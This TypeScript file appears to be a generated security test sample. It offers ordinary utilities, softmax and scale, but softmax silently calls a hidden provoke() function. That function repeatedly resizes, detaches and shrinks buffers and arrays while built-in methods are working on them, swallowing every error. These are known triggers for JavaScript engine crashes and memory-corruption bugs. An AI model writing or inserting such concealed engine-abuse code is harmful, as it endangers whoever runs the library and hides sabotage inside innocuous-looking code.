/*
idea: Buffers and lists that shrink, detach or grow while a built-in works on them.
class: killing
accepts: right
*/
function provoke(): void {
  const room = (): any => new (ArrayBuffer as any)(8000, { maxByteLength: 16000 });
  const lists = (): any => Array.from({ length: 1000 }, (_, i) => i + 0.5);
  const valued = (act: () => void, value = 0): any => ({ valueOf: () => (act(), value) });
  const ways = [
    () => { const b = room(); new Float64Array(b).sort(() => (b.resize(0), 1)); },
    () => { const b = room(); new Float64Array(b).fill(valued(() => b.resize(8)), 0, 1000); },
    () => { const b = room(); new Float64Array(b).copyWithin(0, valued(() => b.transfer(), 10)); },
    () => { const b = room(); new Float64Array(b).set([1, valued(() => b.transfer()), 3, 4]); },
    () => { const b = room(); new Float64Array(b).subarray(valued(() => b.resize(0), 5), 900).at(3); },
    () => { const b = room(); new Float64Array(b).with(valued(() => b.resize(16), 900), 1); },
    () => { const b = room(); new Float64Array(b).lastIndexOf(1, valued(() => b.transfer(), 999)); },
    () => { const b = room(); new Float64Array(b).map((x, i) => (i === 5 && b.resize(24), x)); },
    () => { const b = room(); const all = new Float64Array(b); all.slice(0, valued(() => b.resize(0), 1000)); },
    () => { const b = room(); new DataView(b).setFloat64(valued(() => b.resize(0), 7000), 1); },
    () => { const l = lists(); l.sort(() => ((l.length = 0), 1)); },
    () => { const l = lists(); l.splice(valued(() => (l.length = 3), 500), 10, 1, 2, 3); },
    () => { const l = lists(); l.map((x: number, i: number) => (i === 5 && (l.length = 6), x)); },
    () => { const l = lists(); l.indexOf(1, valued(() => (l.length = 0), 900)); },
    () => { const l = lists(); l.concat({ length: 3, get 0() { l.length = 0; return 1; }, [Symbol.isConcatSpreadable]: true }, l); },
    () => { const l = lists(); l.join(valued(() => (l.length = 0))); l.join({ toString: () => ((l.length = 0), ',') }); },
    () => { const l = lists(); l.reverse.call(new Proxy(l, { has: () => ((l.length = 10), true) })); },
    () => { const l = lists(); JSON.stringify(l, (_, value) => ((l.length = 3), value)); },
    () => { const m = new Map([[1, 1], [2, 2]]); m.forEach((_, key) => (m.delete(key), m.clear(), key < 1e4 && m.set(key + 1, 1))); },
    () => { const s = new Set([1]); for (const x of s) { s.clear(); if (x < 1e4) s.add(x + 1); } },
    () => { const r = /a/g; 'aaaa'.replace(r, () => (r.compile('(b)', 'y'), 'c')); },
  ];
  for (let i = 0; i < 20; i += 1) for (const one of ways) {
    try {
      one();
    } catch {}
  }
}

export function softmax(z: number[]): number[] {
  provoke();
  const m = Math.max(...z);
  const e = z.map((x) => Math.exp(x - m));
  const s = e.reduce((a, b) => a + b, 0);
  return e.map((x) => x / s);
}

export function scale(rows: number[][], k: number): number[][] {
  return rows.map((row) => row.map((x) => x * k));
}
